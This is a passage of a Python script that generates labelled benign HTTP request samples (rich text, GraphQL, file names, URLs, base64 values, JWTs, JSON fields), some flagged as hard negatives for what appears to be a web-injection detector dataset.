        if mode in (0, 1, 3):
            obj = {
                "title": f"Example {i + 1} ({lang})",
                "language": lang,
                "code": code,
                "tags": [lang, "tutorial"],
                "public": True,
            }
            m, p, qs, h, b = build("json", code, endpoint=ep, body=json.dumps(obj))
            pl = "json"
        elif mode == 2:
            ext = {"python": "py", "javascript": "js", "sql": "sql", "bash": "sh", "java": "java"}.get(lang, "txt")
            m, p, qs, h, b = build(
                "multipart",
                code,
                param="file",
                filename=f"snippet_{i}.{ext}",
                part_ctype="text/plain",
                endpoint="/api/uploads/snippets",
                extra={"description": f"{lang} example"},
            )
            pl = "multipart"
        else:
            m, p, qs, h, b = build(
                "form",
                code,
                param="body",
                endpoint=f"/forum/thread/{900 + i}/reply",
                extra={"format": "markdown", "lang": lang},
            )
            pl = "form"
        emit("benign", cat, pl, code, m, p, qs, h, b, hard=hard)


RICH = [
    ('<p>Welcome to <b>our store</b>! Check the <a href="https://shop.example.com/sale">sale</a>.</p>', False),
    ("<ul><li>Flour</li><li>Sugar</li><li>Eggs</li></ul>", False),
    ("<h2>Shipping</h2><p>Orders over $50 ship <em>free</em>.</p>", False),
    ('<p><img src="https://cdn.example.com/img/cat.jpg" alt="Our cat" width="300"></p>', True),
    ("<blockquote>Life is what happens when you're busy making other plans.</blockquote>", False),
    ("<table><tr><th>Size</th><th>Price</th></tr><tr><td>S</td><td>$9.99</td></tr></table>", False),
    ('<a href="mailto:support+billing@example.com">Email us</a>', False),
    ('<p style="color:#333;font-size:14px">Styled text</p>', True),
    ('<span class="highlight">Note:</span> returns within 30 days.', False),
    ("<p>Escape <code>&lt;script&gt;</code> tags before rendering user input.</p>", True),
    ("# Release notes\n\n**Bold** and _italic_ with [docs](https://example.com/docs?page=2#intro)", False),
    ("## Install\n\n```bash\nnpm install --save my-lib\n```\n\nThen `import lib from 'my-lib'`.", True),
    ("<p>Tom &amp; Jerry&#39;s big adventure</p>", True),
    (
        '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" height="315" allowfullscreen></iframe>',
        True,
    ),
    ('<a href="https://example.com" target="_blank" rel="noopener noreferrer">our site</a>', False),
    ('<ol start="3"><li>Step three</li><li>Step four</li></ol>', False),
    ("<p>Use <kbd>Ctrl</kbd>+<kbd>C</kbd> to copy.</p>", False),
    ("<h1>Menu</h1><p>Select a dish &mdash; drop us a line if you have allergies.</p>", True),
    ("<p>Price: <s>$40</s> <strong>$29</strong></p>", False),
    ('<div class="callout warning"><p>Maintenance on <time datetime="2024-07-01">1 July</time>.</p></div>', False),
    ("- [x] Write tests\n- [ ] Update README\n- [ ] Tag v1.2.0", False),
    ("| Plan | Price |\n|------|-------|\n| Basic | $5 |\n| Pro | $15 |", False),
    ("> **Tip:** press `Esc` then `:wq` to save & quit in vim.", True),
    ('<p>Contact: <a href="tel:+15550104477">+1 (555) 010-4477</a></p>', False),
    ('<figure><img src="/uploads/2024/05/chart.png" alt="Q1 vs Q2"><figcaption>Q1 vs Q2</figcaption></figure>', True),
    ("<p>Line one<br>Line two<br/>Line three</p>", False),
    ('<pre><code class="language-sql">SELECT * FROM menu WHERE vegan = true;</code></pre>', True),
    ('<p><a href="https://maps.example.com/?q=51.5,-0.12&amp;z=14">Find us</a></p>', False),
    ("<details><summary>FAQ: Can I return an item?</summary><p>Yes, within 30 days.</p></details>", True),
    ("<p>5 &lt; 10 &amp;&amp; 10 &gt; 5</p>", True),
    ("<p>\u201cSmart quotes\u201d and \u2018apostrophes\u2019 \u2014 plus an em dash.</p>", False),
    ('<video controls width="640"><source src="https://cdn.example.com/v/intro.mp4" type="video/mp4"></video>', True),
    ("<p><u>Underlined</u>, <i>italic</i>, <sup>2</sup> and <sub>n</sub></p>", False),
    ("**Update:** we've moved! Visit us at 12 Union St. (2nd floor).", False),
    ('<p>Follow <a href="https://twitter.com/example?ref_src=twsrc%5Etfw">@example</a></p>', False),
    ("<h3>Step 2</h3><p>Run <code>make install</code> and wait.</p>", True),
    ('<svg width="24" height="24" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z"/></svg>', True),
    ("<p>Ingredients:</p><ul><li>2 cups flour</li><li>1/2 tsp salt</li></ul><p>Bake 20'.</p>", False),
    ('<p class="lead" data-track="hero-cta">Start your free trial today.</p>', True),
    ("Hello **{{first_name}}**, your order ships soon!", True),
    ("<p>Our hours: Mon&ndash;Fri 9&ndash;5; Sat 10&ndash;2.</p>", False),
    ('<a href="/help/returns#policy" title="Returns &amp; refunds">Returns</a>', False),
    ('<p>Visit <a href="https://example.org/select?from=menu&drop=1">this page</a>.</p>', True),
    ('<h2 id="faq">FAQ</h2><dl><dt>Where?</dt><dd>Online only</dd></dl>', False),
    ("<p>This week's <mark>highlight</mark>: the union of art &amp; science.</p>", True),
    ('<p>Read our <a href="/blog/2024/05/union-station-reopens">story</a> about Union Station.</p>', True),
    ("<p>Step&nbsp;1: mix; Step&nbsp;2: bake.</p>", False),
    (
        (
            '<img src="https://cdn.example.com/p/42.webp" srcset="https://cdn.example.com/p/42@2x.webp 2x" '
            'alt="Product 42" loading="lazy">'
        ),
        True,
    ),
    ("1. Preheat oven\n2. Mix *dry* ingredients\n3. Add `1/2 cup` milk", False),
    ('<p>Questions? <a href="https://wa.me/15550104477?text=Hi%20there">WhatsApp us</a></p>', False),
    ("<h2>Terms</h2><p>By clicking &quot;Select&quot; you agree to our terms.</p>", True),
    ("<span style=\"font-family: 'Courier New', monospace\">code-ish text</span>", True),
    ('<p>Use the <abbr title="Structured Query Language">SQL</abbr> console under Admin.</p>', True),
    ('<ul><li><a href="#shipping">Shipping</a></li><li><a href="#returns">Returns</a></li></ul>', False),
    ('![diagram](https://example.com/img/flow.png "Data flow")\n\nSee *Figure 1*.', False),
]


def b_rich() -> None:
    cat = "benign_richtext"
    for i, (html, hard) in enumerate(RICH):
        mode = i % 4
        if mode in (0, 1):
            obj = {
                "title": f"Post {i + 1}",
                "content": html,
                "format": "html" if html.startswith("<") else "markdown",
                "status": "draft",
            }
            ep = ["/api/v1/posts", "/wp-json/wp/v2/posts", "/api/cms/pages", "/api/products/42/description"][i % 4]
            m, p, qs, h, b = build("json", html, endpoint=ep, method="POST" if i % 3 else "PUT", body=json.dumps(obj))
            pl = "json"
        elif mode == 2:
            m, p, qs, h, b = build(
                "form",
                html,
                param="content",
                endpoint=f"/admin/pages/{10 + i}/edit",
                extra={"_token": rand_hex(16), "publish": "1"},
                accept="text/html,application/xhtml+xml",
            )
            pl = "form"
        else:
            m, p, qs, h, b = build(
                "multipart",
                html,
                param="description",
                endpoint="/listings/new",
                extra={"title": f"Listing {i}", "price": "120"},
            )
            pl = "multipart"
        emit("benign", cat, pl, html, m, p, qs, h, b, hard=hard)


GQL = [
    ("query GetUser($id: ID!) { user(id: $id) { id name email avatarUrl } }", {"id": "VXNlcjoxMjM0"}, "GetUser", False),
    (
        "mutation AddToCart($sku: String!, $qty: Int!) { addToCart(sku: $sku, quantity: $qty) { cart { id total } } }",
        {"sku": "TSHIRT-RED-M", "qty": 2},
        "AddToCart",
        False,
    ),
    (
        (
            "query Search($q: String!, $first: Int = 10) { search(query: $q, first: $first) { edges { node { id "
            "title } } } }"
        ),
        {"q": 'O\'Reilly "Learning SQL"'},
        "Search",
        True,
    ),
    (
        (
            "fragment UserParts on User { id name }\nquery Team($id: ID!) { team(id: $id) { owner { ...UserParts } "
            "members { ...UserParts } } }"
        ),
        {"id": "team_42"},
        "Team",
        False,
    ),
    (
        "query Feed($withComments: Boolean!) { feed { id text comments @include(if: $withComments) { id body } } }",
        {"withComments": True},
        "Feed",
        False,
    ),
    (
        "mutation UpdateBio($bio: String!) { updateProfile(input: { bio: $bio }) { user { id bio } } }",
        {"bio": "I <3 SQL & select good coffee; drop me a line."},
        "UpdateBio",
        True,
    ),
    ("{ __typename }", None, None, False),
    (
        "query IntrospectionQuery { __schema { queryType { name } types { name kind } } }",
        None,
        "IntrospectionQuery",
        True,
    ),
    ("query { a: product(id: 1) { name } b: product(id: 2) { name } }", None, None, False),
    (
        "mutation CreatePost($input: PostInput!) { createPost(input: $input) { id slug } }",
        {"input": {"title": "Union of sets", "body": "<p>The <b>union</b> of A and B...</p>", "tags": ["math"]}},
        "CreatePost",
        True,
    ),
    (
        (
            "query Orders($filter: OrderFilter) { orders(filter: $filter, orderBy: { field: CREATED_AT, direction: "
            "DESC }) { id total } }"
        ),
        {"filter": {"status": ["PAID", "SHIPPED"], "createdAfter": "2024-01-01T00:00:00Z"}},
        "Orders",
        False,
    ),
    (
        "subscription OnMessage($room: ID!) { messageAdded(roomId: $room) { id text author { name } } }",
        {"room": "general"},
        "OnMessage",
        False,
    ),
    (
        "query Products($where: ProductWhere) { products(where: $where) { id name price } }",
        {"where": {"name_contains": "drop", "price_lt": 100}},
        "Products",
        True,
    ),
    (
        "mutation Login($email: String!, $password: String!) { login(email: $email, password: $password) { token } }",
        {"email": "jane+test@example.com", "password": "p@ss'w0rd\"!"},
        "Login",
        True,
    ),
    (
        "query Node($id: ID!) { node(id: $id) { ... on Repository { name stargazerCount } } }",
        {"id": "MDEwOlJlcG9zaXRvcnkxMjk2MjY5"},
        "Node",
        False,
    ),
    ("mutation Upload($file: Upload!) { uploadAvatar(file: $file) { url } }", {"file": None}, "Upload", False),
    (
        (
            "query Comments($after: String) { comments(first: 20, after: $after) { pageInfo { endCursor hasNextPage "
            "} edges { node { body } } } }"
        ),
        {"after": "Y3Vyc29yOjIw"},
        "Comments",
        False,
    ),
    ("query { shop { name currencyCode } }", None, None, False),
]


def b_graphql() -> None:
    cat = "benign_graphql"
    for rep in range(2):
        for i, (qry, vars_, op, hard) in enumerate(GQL):
            idx = rep * len(GQL) + i
            if rep == 1 and i % 3 == 0:
                # GET form of persisted / simple queries
                parts = ["query=" + q(qry)]
                if vars_ is not None:
                    parts.append("variables=" + q(json.dumps(vars_)))
                if op:
                    parts.append("operationName=" + q(op))
                m, p, qs, h, b = build("query", qry, endpoint="/graphql", rawq="&".join(parts))
                emit("benign", cat, "query", qry, m, p, qs, h, b, hard=hard)
                continue
            obj = {"query": qry}
            if vars_ is not None:
                obj["variables"] = vars_
            if op:
                obj["operationName"] = op
            ep = ["/graphql", "/api/graphql", "/v1/graphql"][idx % 3]
            hd = (
                {"Authorization": "Bearer " + jwt({"sub": f"user_{100 + idx}", "iat": 1714000000 + idx})}
                if idx % 4 == 0
                else None
            )
            m, p, qs, h, b = build("json", qry, endpoint=ep, body=json.dumps(obj), hdrs=hd)
            emit("benign", cat, "json", qry, m, p, qs, h, b, hard=hard)


FILENAMES = [
    ("Q3 Report (final).pdf", False),
    ("r\u00e9sum\u00e9_2024.docx", False),
    ("IMG_20240105_123045.jpg", False),
    ("backup.2024-03-01.tar.gz", False),
    ("my.notes.v2.final.txt", False),
    ("Budget 2024 - Copy (2).xlsx", False),
    ("O'Brien - Contract.pdf", True),
    ("data;version=2.csv", True),
    ("100% complete.png", True),
    ("C# cheat sheet.md", False),
    ("photo [edited].jpeg", False),
    ("#1 priority.txt", True),
    ("archive..zip", True),
    ("file & folder.txt", True),
    ("na\u00efve-bayes.ipynb", False),
    ("presentation~draft.pptx", False),
    ("2024_taxes_{copy}.pdf", True),
    ("Screenshot 2024-05-06 at 10.15.33.png", False),
    ("config.example.yaml", False),
    (".gitignore", True),
    ("README", False),
    ("logo@2x.png", False),
    ("invoice#4471.pdf", True),
    ("index.html", True),
    ("setup.sh", True),
    ("select_query_results.csv", True),
    ("Mom & Dad's anniversary.mov", True),
    ("report (1) (2) (3).doc", False),
    ("\u30c6\u30b9\u30c8.txt", False),
    ("r\u00e9sum\u00e9 \u2013 Jos\u00e9 N\u00fa\u00f1ez.pdf", False),
    ("v1.2.3-rc.1.tgz", False),
    ("don't delete me.txt", True),
    ("meeting-notes_2024.06.12 (draft).odt", False),
    ("union-contract-2024.pdf", True),
    ("script.min.js.map", True),
    ("bin.exe.txt", True),
]
_FCT = {
    "pdf": "application/pdf",
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "jpg": "image/jpeg",
    "jpeg": "image/jpeg",
    "png": "image/png",
    "gz": "application/gzip",
    "txt": "text/plain",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "csv": "text/csv",
    "md": "text/markdown",
    "zip": "application/zip",
    "html": "text/html",
    "sh": "text/x-shellscript",
    "yaml": "application/yaml",
    "mov": "video/quicktime",
    "js": "text/javascript",
}


def b_filenames() -> None:
    cat = "benign_filename"
    for i, (fn, hard) in enumerate(FILENAMES):
        ext = fn.rsplit(".", 1)[-1].lower() if "." in fn else ""
        ct = _FCT.get(ext, "application/octet-stream")
        mode = i % 6
        if mode in (0, 1, 2):
            if ct.startswith("text/") or ext in ("md", "yaml", "csv", "sh", "html"):
                content = f"Sample content for {fn}\nline 2, with commas; and semicolons\n"
                phd = None
            else:
                content = b64(rbytes(48))
                phd = {"Content-Transfer-Encoding": "base64"}
            m, p, qs, h, b = build(
                "multipart",
                fn,
                param="file",
                fname_payload=True,
                mp_value=content,
                part_ctype=ct,
                part_headers=phd,
                endpoint=["/api/files", "/upload", "/api/v1/attachments"][i % 3],
                extra={"folder": "Shared/Projects 2024"},
            )
            pl = "multipart"
        elif mode == 3:
            m, p, qs, h, b = build("path", fn, endpoint=f"/files/u/{300 + i}")
            pl = "path"
        elif mode == 4:
            obj = {"filename": fn, "size": 10240 + i * 77, "contentType": ct, "folderId": ruuid()}
            m, p, qs, h, b = build("json", fn, endpoint="/api/v1/files/rename", method="PATCH", body=json.dumps(obj))
            pl = "json"
        elif header_ok(fn):
            m, p, qs, h, b = build(
                "header",
                fn,
                header="X-File-Name",
                endpoint="/api/uploads/raw",
                method="PUT",
                post_body="raw file bytes here",
                post_ctype="application/octet-stream",
            )
            pl = "header"
        else:
            m, p, qs, h, b = build("query", fn, param="filename", endpoint="/download", extra={"folder": "inbox"})
            pl = "query"
        emit("benign", cat, pl, fn, m, p, qs, h, b, hard=hard)


def b_urls() -> None:
    cat = "benign_url"
    rows = [
        ("query", "/dashboard?tab=billing", {"param": "next", "endpoint": "/login"}, False),
        (
            "query",
            "https://app.example.com/checkout?step=2&coupon=SPRING24",
            {"param": "return_to", "endpoint": "/auth/sso"},
            True,
        ),
        (
            "json",
            "http://localhost:3000",
            {
                "param": "homepage",
                "endpoint": "/api/v1/profile",
                "method": "PUT",
                "extra": {"displayName": "Dev Tester"},
            },
            True,
        ),
        (
            "json",
            "https://www.example.org/about-us/",
            {"param": "website", "endpoint": "/api/v1/profile", "method": "PUT"},
            False,
        ),
        (
            "query",
            "https://app.example.com/oauth/callback",
            {
                "endpoint": "/oauth/authorize",
                "rawq": (
                    "response_type=code&client_id=web-app-123&redirect_uri="
                    + q("https://app.example.com/oauth/callback")
                    + "&scope="
                    + q("openid profile email")
                    + "&state="
                    + rand_alnum(20)
                ),
            },
            False,
        ),
        (
            "header",
            "https://www.google.com/search?q=best+running+shoes&hl=en",
            {"header": "Referer", "endpoint": "/products/shoes"},
            False,
        ),
        (
            "json",
            "https://github.com/example/repo/blob/main/README.md#installation",
            {"param": "link", "endpoint": "/api/bookmarks", "extra": {"title": "Install docs"}},
            False,
        ),
        (
            "json",
            "http://10.0.0.12:9000/health",
            {"param": "notes", "endpoint": "/api/runbooks", "extra": {"title": "Staging health endpoint (docs only)"}},
            True,
        ),
        (
            "query",
            "newsletter",
            {
                "endpoint": "/landing/spring",
                "rawq": "utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale&utm_content="
                + q("hero button"),
            },
            False,
        ),
        ("json", "https://www.bbc.co.uk/news/technology", {"param": "url", "endpoint": "/api/v1/link-preview"}, False),
        (
            "json",
            "https://hooks.slack.com/services/T0000/B0000/XXXXXXXXXXXXXXXX",
            {"param": "webhook_url", "endpoint": "/api/integrations/slack"},
            False,
        ),
        ("json", "https://en.wikipedia.org/wiki/C%2B%2B", {"param": "reference", "endpoint": "/api/notes"}, True),
        (
            "query",
            "https://maps.example.com/?q=51.5074,-0.1278&z=12",
            {"param": "map", "endpoint": "/store-locator"},
            False,
        ),
        (
            "form",
            "mailto:info@example.com?subject=Hello%20there",
            {"param": "contact_link", "endpoint": "/admin/footer"},
            True,
        ),
        ("json", "ftp://ftp.gnu.org/gnu/", {"param": "mirror_doc", "endpoint": "/api/wiki/pages"}, True),
        (
            "json",
            "http://[2001:db8::1]:8080/",
            {"param": "homepage", "endpoint": "/api/v1/profile", "method": "PUT"},
            True,
        ),
        ("query", "/search?q=shoes&sort=price_asc", {"param": "redirect", "endpoint": "/login"}, True),
        ("cookie", "https://shop.example.com/cart?items=3", {"cookie": "last_page", "endpoint": "/"}, False),
        (
            "json",
            "https://cdn.example.com/assets/app.3f9a1c.js",
            {"param": "src", "endpoint": "/api/csp/reports", "extra": {"directive": "script-src"}},
            False,
        ),
        (
            "json",
            "https://example.com/path/with%20spaces/and(parens)",
            {"param": "canonical", "endpoint": "/api/seo"},
            False,
        ),
        (
            "form",
            "https://www.linkedin.com/in/jane-doe-123/",
            {"param": "linkedin", "endpoint": "/careers/apply", "extra": {"name": "Jane Doe"}},
            False,
        ),
        (
            "json",
            "http://intranet.corp.local/wiki/Onboarding",
            {"param": "homepage", "endpoint": "/api/employees/77", "method": "PATCH"},
            True,
        ),
        ("query", "https://docs.example.com/v2/api#section-3.1", {"param": "doc", "endpoint": "/share"}, False),
        (
            "json",
            "https://s3.amazonaws.com/my-bucket/reports/2024/q1.pdf?X-Amz-Expires=3600&X-Amz-Signature=abcdef0123",
            {"param": "download_url", "endpoint": "/api/reports/share"},
            True,
        ),
        (
            "multipart",
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
            {"param": "video_url", "endpoint": "/api/lessons", "extra": {"title": "Intro"}},
            False,
        ),
        (
            "header",
            "https://partner.example.net",
            {
                "header": "Origin",
                "endpoint": "/api/public/quote",
                "method": "POST",
                "post_body": '{"sku": "A-1"}',
                "post_ctype": "application/json",
            },
            False,
        ),
        (
            "json",
            "http://127.0.0.1:5173/",
            {"param": "dev_server_url", "endpoint": "/api/projects/12/settings", "method": "PATCH"},
            True,
        ),
        ("query", "https://example.com/a/b/../c", {"param": "url", "endpoint": "/api/url/normalize"}, True),
        (
            "json",
            "https://api.example.com/v1/items?filter=name%20eq%20'widget'&$top=10",
            {"param": "odata_link", "endpoint": "/api/saved-queries"},
            True,
        ),
        ("path", "https://example.com/promo", {"endpoint": "/qr"}, True),
        (
            "json",
            "https://user:token@git.example.com/team/repo.git",
            {"param": "remote_display", "endpoint": "/api/docs/snippets"},
            True,
        ),
        (
            "query",
            "https://www.amazon.com/dp/B08N5WRWNW?ref=ppx_yo_dt_b_asin",
            {"param": "u", "endpoint": "/r/track"},
            False,
        ),
        (
            "json",
            "https://fonts.googleapis.com/css2?family=Inter:wght@400;700&display=swap",
            {"param": "fontUrl", "endpoint": "/api/themes"},
            False,
        ),
        (
            "form",
            "https://calendar.example.com/event?id=88&tz=Europe%2FLondon",
            {"param": "event_link", "endpoint": "/invites"},
            False,
        ),
        (
            "json",
            "data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'/>",
            {"param": "placeholder", "endpoint": "/api/themes"},
            True,
        ),
        ("cookie", "/account/orders?page=2", {"cookie": "return_to", "endpoint": "/login"}, False),
        ("json", "http://192.168.1.1/", {"param": "router_admin_note", "endpoint": "/api/support/kb"}, True),
        (
            "query",
            "https://example.com/?next=https%3A%2F%2Fexample.com%2Fhome",
            {"param": "continue", "endpoint": "/logout"},
            True,
        ),
        ("json", "https://example.com/\u00fcber-uns", {"param": "url", "endpoint": "/api/v1/link-preview"}, False),
        (
            "header",
            "https://app.example.com/settings/profile?tab=security",
            {"header": "Referer", "endpoint": "/api/v1/me"},
            False,
        ),
    ]
    for pl, val, kw, hard in rows:
        m, p, qs, h, b = build(pl, val, **kw)
        emit("benign", cat, pl, val, m, p, qs, h, b, hard=hard)


def b_base64() -> None:
    cat = "benign_base64"
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa"
    jpg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x01\x00H\x00H\x00\x00"
    pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    for k in range(3):
        # avatar data URI (padded)
        v = "data:image/png;base64," + b64(png + rbytes(60 + 17 * k))
        m, p, qs, h, b = build("json", v, param="avatar", endpoint="/api/v1/profile/avatar", method="PUT")
        emit("benign", cat, "json", v, m, p, qs, h, b)
        # attachment pdf
        v = b64(pdf + rbytes(120 + k))
        obj = {
            "to": EMAILS[k],
            "subject": f"Invoice {2024100 + k}",
            "attachments": [{"filename": f"invoice-{k}.pdf", "contentType": "application/pdf", "content": v}],
        }
        m, p, qs, h, b = build("json", v, endpoint="/api/mail/send", body=json.dumps(obj))
        emit("benign", cat, "json", v, m, p, qs, h, b)
        # unpadded thumbnail
        v = b64np(jpg + rbytes(40 + 3 * k + 1))
        m, p, qs, h, b = build(
            "json", v, param="thumbnail", endpoint="/api/media", extra={"encoding": "base64", "padding": False}
        )
        emit("benign", cat, "json", v, m, p, qs, h, b)
        # basic auth
        v = "Basic " + b64(
            ["alice:correct horse battery staple", "svc-report:Pa$$w0rd!2024", "jane+api@example.com:tok_9f8e7d"][k]
        )
        m, p, qs, h, b = build("header", v, header="Authorization", endpoint="/api/v1/reports")
        emit("benign", cat, "header", v, m, p, qs, h, b)
        # cursor (b64url json, unpadded)
        v = b64url(json.dumps({"offset": 20 * (k + 1), "sort": "created_at", "dir": "desc"}))
        m, p, qs, h, b = build("query", v, param="cursor", endpoint="/api/v1/notifications", extra={"limit": "20"})
        emit("benign", cat, "query", v, m, p, qs, h, b, hard=True)
        # path segment share id
        v = b64url(f"doc:{ruuid()}:rev{k + 3}")
        m, p, qs, h, b = build("path", v, endpoint="/share")
        emit("benign", cat, "path", v, m, p, qs, h, b)
        # multipart base64 part
        v = b64(png + rbytes(90))
        m, p, qs, h, b = build(
            "multipart",
            v,
            param="image",
            filename=f"scan_{k}.png",
            part_ctype="image/png",
            part_headers={"Content-Transfer-Encoding": "base64"},
            endpoint="/api/scans",
            extra={"patientRef": f"PR-{k + 88:04d}"},
        )
        emit("benign", cat, "multipart", v, m, p, qs, h, b)
        # flask-like signed session cookie
        v = b64url(json.dumps({"user_id": 42 + k, "cart": [3, 9]})) + "." + b64url(rbytes(4)) + "." + b64url(rbytes(20))
        m, p, qs, h, b = build("cookie", v, cookie="session", endpoint="/cart")
        emit("benign", cat, "cookie", v, m, p, qs, h, b, hard=True)
        # HMAC signature header
        v = b64(rbytes(32))
        m, p, qs, h, b = build(
            "header",
            v,
            header="X-Hub-Signature-256",
            endpoint="/webhooks/payments",
            method="POST",
            post_body=json.dumps({"event": "charge.succeeded", "id": f"evt_{rand_alnum(14)}"}),
            post_ctype="application/json",
        )
        emit("benign", cat, "header", v, m, p, qs, h, b)
        # base64 of a CSV that contains SQL-ish words
        v = b64(
            [
                "name,notes\nmenu,select the best option\nbar,drop by anytime\n",
                'sku,description\nA1,"Union Jack flag, large"\nB2,script font stencil\n',
                "q,a\nwhere,here\nor,either\n",
            ][k]
        )
        m, p, qs, h, b = build("json", v, param="csvBase64", endpoint="/api/imports", extra={"filename": "export.csv"})
        emit("benign", cat, "json", v, m, p, qs, h, b, hard=True)
    # SAML response (form) and PEM key
    saml = (
        f'<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_{rand_hex(20)}" Version="2.0" '
        'IssueInstant="2024-05-01T10:00:00Z"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">'
        "https://idp.example.com</saml:Issuer><samlp:Status><samlp:StatusCode "
        'Value="urn:oasis:names:tc:SAML:2.0:status:Success"/>'
        "</samlp:Status></samlp:Response>"
    )
    v = b64(saml)
    m, p, qs, h, b = build("form", v, param="SAMLResponse", endpoint="/saml/acs", extra={"RelayState": "/dashboard"})
    emit("benign", cat, "form", v, m, p, qs, h, b, hard=True)
    pem = (
        "-----BEGIN PUBLIC KEY-----\n"
        + "\n".join(
            b64(b'0\x82\x01"0\r\x06\t*\x86H\x86\xf7\r\x01\x01\x01\x05\x00' + rbytes(270))[i : i + 64]
            for i in range(0, 384, 64)
        )
        + "\n-----END PUBLIC KEY-----"
    )
    m, p, qs, h, b = build("json", pem, param="publicKey", endpoint="/api/v1/ssh-keys", extra={"label": "laptop"})
    emit("benign", cat, "json", pem, m, p, qs, h, b)
    v = b64np("Meeting moved to 3pm; bring the Q2 numbers & your laptop.")
    m, p, qs, h, b = build("query", v, param="msg", endpoint="/m")
    emit("benign", cat, "query", v, m, p, qs, h, b)


def b_jwt() -> None:
    cat = "benign_jwt"
    claims = [
        {"sub": "1234567890", "name": "Se\u00e1n O'Neil", "iat": 1714000000, "exp": 1714003600},
        {
            "sub": "auth0|65f1c2",
            "email": "jane+app@example.com",
            "scope": "read:orders write:orders",
            "aud": "https://api.example.com",
        },
        {"iss": "https://accounts.example.com", "sub": "u_8812", "roles": ["user", "editor"], "iat": 1715000000},
        {"sub": "svc-batch", "azp": "reporting", "exp": 1893456000, "tenant": "acme-eu"},
        {"sub": "42", "nonce": rand_alnum(16), "amr": ["pwd", "otp"], "auth_time": 1716000000},
        {"sub": "device:ab12", "cnf": {"jkt": rand_alnum(43)}, "iat": 1716500000},
    ]
    for i in range(36):
        c = dict(claims[i % len(claims)])
        c["jti"] = ruuid()
        alg = ["HS256", "RS256", "ES256"][i % 3]
        tok = jwt(c, alg=alg if alg != "ES256" else "RS256", kid=f"key-{i % 4}" if alg != "HS256" else None)
        mode = i % 6
        if mode in (0, 1):
            v = "Bearer " + tok
            m, p, qs, h, b = build(
                "header", v, header="Authorization", endpoint=["/api/v1/me", "/api/orders", "/graphql"][i % 3]
            )
            pl = "header"
        elif mode == 2:
            v = tok
            m, p, qs, h, b = build(
                "cookie", v, cookie=["access_token", "id_token", "__Host-jwt"][i % 3], endpoint="/dashboard"
            )
            pl = "cookie"
        elif mode == 3:
            v = tok
            m, p, qs, h, b = build(
                "json",
                v,
                param=["id_token", "refresh_token", "assertion"][i % 3],
                endpoint="/api/auth/session",
                extra={"client_id": "web"},
            )
            pl = "json"
        elif mode == 4:
            v = tok
            m, p, qs, h, b = build(
                "query",
                v,
                param=["token", "access_token", "t"][i % 3],
                endpoint=["/verify-email", "/ws/connect", "/download/report"][i % 3],
            )
            pl = "query"
        else:
            v = tok
            m, p, qs, h, b = build(
                "form",
                v,
                param="assertion",
                endpoint="/oauth/token",
                extra={"grant_type": "urn:ietf:params:oauth:grant-type:jwt-bearer"},
            )
            pl = "form"
        emit("benign", cat, pl, v, m, p, qs, h, b)


def b_json2() -> None:
    cat = "benign_json"
    R = []
    R.append(
        (
            "json",
            "Home #2",
            {
                "endpoint": "/api/v1/places",
                "body": json.dumps({"label": "Home #2", "lat": 51.5074, "lng": -0.1278, "accuracy_m": 12.5}),
            },
            False,
        )
    )
    R.append(
        (
            "form",
            "Apt #5B, 88 Select St.",
            {
                "param": "address2",
                "endpoint": "/checkout/shipping",
                "extra": {"address1": "88 Select Street", "city": "Springfield", "zip": "01101", "country": "US"},
            },
            True,
        )
    )
    R.append(
        (
            "json",
            "RRULE:FREQ=WEEKLY;BYDAY=MO,WE,FR;UNTIL=20241231T235959Z",
            {
                "endpoint": "/api/calendar/events",
                "body": json.dumps(
                    {
                        "title": "Stand-up",
                        "start": "2024-06-03T09:30:00+02:00",
                        "end": "2024-06-03T09:45:00+02:00",
                        "recurrence": ["RRULE:FREQ=WEEKLY;BYDAY=MO,WE,FR;UNTIL=20241231T235959Z"],
                    }
                ),
            },
            True,
        )
    )
    R.append(
        (
            "query",
            "3,5,8,13,21",
            {"param": "ids", "endpoint": "/api/v1/products/batch", "extra": {"expand": "stock"}},
            False,
        )
    )
    R.append(
        (
            "json",
            "Rent - Flat #3 (May) & utilities",
            {
                "endpoint": "/api/transfers",
                "body": json.dumps(
                    {
                        "amount": "1,000.00",
                        "currency": "GBP",
                        "memo": "Rent - Flat #3 (May) & utilities",
                        "to": "GB33BUKB20201555555555",
                    }
                ),
            },
            True,
        )
    )
    R.append(
        (
            "json_key",
            "new-checkout",
            {
                "endpoint": "/api/admin/flags",
                "method": "PUT",
                "body": json.dumps({"new-checkout": True, "beta.search_v2": False, "max_items_per_cart": 50}),
            },
            False,
        )
    )
    R.append(
        (
            "json",
            "DE89 3704 0044 0532 0130 00",
            {
                "param": "iban",
                "endpoint": "/api/payouts/bank-account",
                "extra": {"holder": "Bj\u00f6rn \u00c5gren", "bic": "COBADEFFXXX"},
            },
            False,
        )
    )
    R.append(("path", "AB-12/34", {"endpoint": "/api/products/sku"}, False))
    R.append(("header", ruuid(), {"header": "X-Request-ID", "endpoint": "/api/v1/orders"}, False))
    R.append(("cookie", "3|5|8", {"cookie": "recently_viewed", "endpoint": "/shop"}, True))
    R.append(
        (
            "json",
            "1HGCM82633A004352",
            {"param": "vin", "endpoint": "/api/vehicles/lookup", "extra": {"mileage": 84210, "unit": "km"}},
            False,
        )
    )
    R.append(
        (
            "json",
            "exponential",
            {
                "endpoint": "/api/v1/settings/retry",
                "method": "PATCH",
                "body": json.dumps({"retry": {"max": 3, "backoff": "exponential", "jitter": None}, "timeoutMs": 2500}),
            },
            False,
        )
    )
    R.append(
        (
            "json",
            "Leave at door <back> & ring twice",
            {"param": "deliveryNote", "endpoint": "/api/v1/orders/7731/notes", "extra": {"visibleToCourier": True}},
            True,
        )
    )
